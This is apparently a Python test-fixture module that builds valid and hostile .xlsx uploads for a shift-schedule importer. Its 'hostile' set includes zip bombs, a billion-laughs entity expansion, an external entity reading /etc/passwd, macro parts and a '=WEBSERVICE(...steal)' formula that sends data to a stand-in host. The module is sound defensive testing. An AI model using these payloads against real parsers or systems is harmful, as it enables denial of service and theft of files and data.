"""Spreadsheets that tests upload: honest ones, and such as nobody should have to open."""

import struct
import warnings
import zipfile
from collections.abc import Iterable, Mapping, Sequence
from datetime import date, datetime, time, timedelta
from io import BytesIO
from typing import Any

from openpyxl import Workbook

HEADING = ("unit", "role", "date", "start", "end", "headcount", "people", "notes")
ROW = ("Ward 1", "nurse", "2199-03-01", "08:00", "16:00", 1, None, None)
"""A good one, if there is such a unit."""

_TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_WORKBOOK = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
_PREFIX = "application/vnd.openxmlformats-officedocument.spreadsheetml"
_XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'


def a_sheet(*rows: Sequence[Any], heading: Sequence[Any] = HEADING, title: str = "Shifts") -> bytes:
    """As a spreadsheet program writes it."""
    book = Workbook()
    book.worksheets[0].title = title
    for row in [heading, *rows]:
        book.worksheets[0].append(list(row))
    return _saved(book)


def many_rows(count: int, unit: str = "Ward 1", people: Sequence[str] = ()) -> bytes:
    """Each a shift of its own."""
    book = Workbook(write_only=True)
    sheet = book.create_sheet("Shifts")
    sheet.append(HEADING)
    for n in range(count):
        day, slot = date(2199, 1, 1) + timedelta(days=n % 300), n // 300
        # At no hour that is skipped or comes twice.
        start = datetime.combine(day, time(4 + slot % 18, slot // 18 * 15))
        who = people[n % len(people)] if people else None
        end = start + timedelta(minutes=15)
        sheet.append([unit, "nurse", day, start.time(), end.time(), 1, who, f"row {n}"])
    return _saved(book)


def _saved(book: Workbook) -> bytes:
    written = BytesIO()
    book.save(written)
    return written.getvalue()


def raw(
    rows: str = "",
    *,
    before: str = "",
    types: str = _WORKBOOK,
    strings: str | None = None,
    prolog: str = "",
    others: Mapping[str, bytes | str] | None = None,
    compression: int = zipfile.ZIP_DEFLATED,
) -> bytes:
    """The parts of an .xlsx by hand; `rows` is the XML in its sheet's data."""
    data = f"{before}<sheetData>{rows}</sheetData>"
    parts: dict[str, bytes | str] = {
        "[Content_Types].xml": f'{_XML}<Types xmlns="{_TYPES}">'
        '<Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="{types}"/>'
        f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{_PREFIX}.worksheet+xml"/>'
        + (
            '<Override PartName="/xl/sharedStrings.xml" '
            f'ContentType="{_PREFIX}.sharedStrings+xml"/>'
            if strings is not None
            else ""
        )
        + "</Types>",
        "_rels/.rels": f'{_XML}<Relationships xmlns="{_RELS}"><Relationship Id="rId1" '
        f'Type="{_OFFICE}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'{_XML}<workbook xmlns="{_MAIN}" xmlns:r="{_OFFICE}"><sheets>'
        '<sheet name="Shifts" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'{_XML}<Relationships xmlns="{_RELS}"><Relationship '
        f'Id="rId1" Type="{_OFFICE}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
        "xl/worksheets/sheet1.xml": f'{_XML}{prolog}<worksheet xmlns="{_MAIN}">{data}</worksheet>',
    }
    if strings is not None:
        parts["xl/sharedStrings.xml"] = f'{_XML}<sst xmlns="{_MAIN}">{strings}</sst>'
    return zipped(parts | dict(others or {}), compression)


def zipped(parts: Mapping[str, bytes | str], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    written = BytesIO()
    with zipfile.ZipFile(written, "w", compression) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return written.getvalue()


def a_row(number: int, cells: Iterable[Any]) -> str:
    """The XML of a row of texts."""
    told = "".join(
        f'<c r="{chr(65 + place)}{number}" t="inlineStr"><is><t>{cell}</t></is></c>'
        for place, cell in enumerate(cells)
        if cell is not None
    )
    return f'<row r="{number}">{told}</row>'


GOOD = a_row(1, HEADING) + a_row(2, ROW)


def hostile() -> dict[str, bytes]:
    """By what it is. None of them is a list of shifts."""
    honest = a_sheet(ROW)
    return {
        "nothing": b"",
        "not a zip": b"unit,role,date\nWard 1,nurse,2199-03-01\n",
        "a truncated zip": honest[: len(honest) // 2],
        "a zip of nothing": zipped({}),
        "a zip of something else": zipped({"word/document.xml": "<w/>"}),
        "random bytes after the magic": b"PK\x03\x04" + bytes(range(256)) * 40,
        "an encrypted file": bytes.fromhex("d0cf11e0a1b11ae1") + b"\x00" * 4096,
        "an encrypted zip": _marked_encrypted(honest),
        "a zip bomb": raw(GOOD, others={"xl/media/image1.bin": b"\x00" * 70_000_000}),
        "a bomb that denies its size": _lying(raw(GOOD, others={"xl/a.xml": b" " * 70_000_000})),
        "a sheet of blanks": raw(GOOD + " " * 51_000_000),
        "a part that is there twice": _twice(),
        "thousands of parts": zipped({f"xl/{n}.xml": "<a/>" for n in range(5000)}),
        "a forged dimension": raw(
            a_row(1, HEADING) + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>',
            before='<dimension ref="A1:XFD1048576"/>',
        ),
        "a forged row number": raw(a_row(1, HEADING) + a_row(10**12, ROW)),
        "huge shared strings": raw(GOOD, strings="<si><t>x</t></si>" * 150_000),
        "one endless text": raw(
            a_row(1, HEADING) + '<row r="2"><c r="A2" t="s"><v>0</v></c></row>',
            strings="<si><t>" + "x" * 40_000_000 + "</t></si>",
        ),
        "a million rows": raw(a_row(1, HEADING) + '<row><c t="b"><v>1</v></c></row>' * 1_000_000),
        "rows past the limit": raw(a_row(1, HEADING) + '<row><c t="b"><v>1</v></c></row>' * 10_001),
        "many blank rows": raw(a_row(1, HEADING) + "<row/>" * 150_000),
        "one row of a million cells": raw(
            a_row(1, HEADING) + "<row>" + '<c t="b"><v>1</v></c>' * 450_000 + "</row>"
        ),
        "entities that expand": raw(
            GOOD.replace("Ward 1", "&lol9;"), prolog=f"<!DOCTYPE lolz [{_billion_laughs()}]>"
        ),
        "an external entity": raw(
            GOOD.replace("Ward 1", "&x;"),
            prolog='<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        ),
        "a document type alone": raw(GOOD, prolog="<!DOCTYPE worksheet>"),
        "a document type in UTF-16": _in_utf_16(),
        "macros": raw(GOOD, others={"xl/vbaProject.bin": b"\x00"}),
        "a type with macros": raw(
            GOOD, types="application/vnd.ms-excel.sheet.macroEnabled.main+xml"
        ),
        "deeply nested XML": raw("<row>" * 100_000 + "</row>" * 100_000),
        "XML that never ends": raw(GOOD + "<row>"),
        "XML of another kind": raw("<a xmlns='urn:x'><![CDATA[<row>]]></a>"),
        "a cell that refers to no text": raw(
            a_row(1, HEADING) + '<row r="2"><c r="A2" t="s"><v>99999999</v></c></row>'
        ),
        "a number of many digits": raw(
            a_row(1, HEADING) + '<row r="2"><c r="A2"><v>' + "9" * 100_000 + "</v></c></row>"
        ),
        "a style without end": raw(GOOD, others={"xl/styles.xml": _styles(100_000)}),
        "NUL bytes": raw(GOOD.replace("Ward 1", "Ward\x00")),
        "a sheet that is elsewhere": zipped({"[Content_Types].xml": "<Types/>"}),
        "another heading": a_sheet(ROW, heading=("who", "what", "when")),
        "a heading twice": a_sheet(ROW, heading=(*HEADING[:7], "unit")),
        "a column that is missing": a_sheet(ROW, heading=HEADING[:4]),
        "only a heading": a_sheet(),
        "an empty sheet": raw(),
        "formulas": a_sheet(("=A1", *ROW[1:])),
        "a formula to the outside": a_sheet(
            (*ROW[:7], '=WEBSERVICE("http://127.0.0.1/steal")'),
        ),
    }


def _billion_laughs() -> str:
    first = '<!ENTITY lol "lol">'
    more = (f'<!ENTITY lol{n} "{_ten_of(n - 1)}">' for n in range(1, 10))
    return first + "".join(more)


def _ten_of(number: int) -> str:
    return f"&lol{number or ''};" * 10


def _in_utf_16() -> bytes:
    sheet = (
        f'<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE worksheet><worksheet xmlns="{_MAIN}"/>'
    )
    return raw(GOOD, others={"xl/worksheets/sheet2.xml": sheet.encode("utf-16")})


def _styles(count: int) -> str:
    return f'<styleSheet xmlns="{_MAIN}"><cellXfs>' + "<xf/>" * count + "</cellXfs></styleSheet>"


def _twice() -> bytes:
    written = BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(written, "w") as archive:
        warnings.simplefilter("ignore")
        for _ in range(2):
            archive.writestr("[Content_Types].xml", "<Types/>")
    return written.getvalue()


def _marked_encrypted(data: bytes) -> bytes:
    """With the flag set in each entry of the directory."""
    marked = bytearray(data)
    place = marked.find(b"PK\x01\x02")
    while place >= 0:
        marked[place + 8] |= 1
        place = marked.find(b"PK\x01\x02", place + 4)
    return bytes(marked)


def _lying(data: bytes) -> bytes:
    """Each entry of the directory says that it inflates to a thousand bytes."""
    forged = bytearray(data)
    place = forged.find(b"PK\x01\x02")
    while place >= 0:
        size = struct.unpack_from("<I", forged, place + 24)[0]
        struct.pack_into("<I", forged, place + 24, min(size, 1000))
        place = forged.find(b"PK\x01\x02", place + 4)
    return bytes(forged)
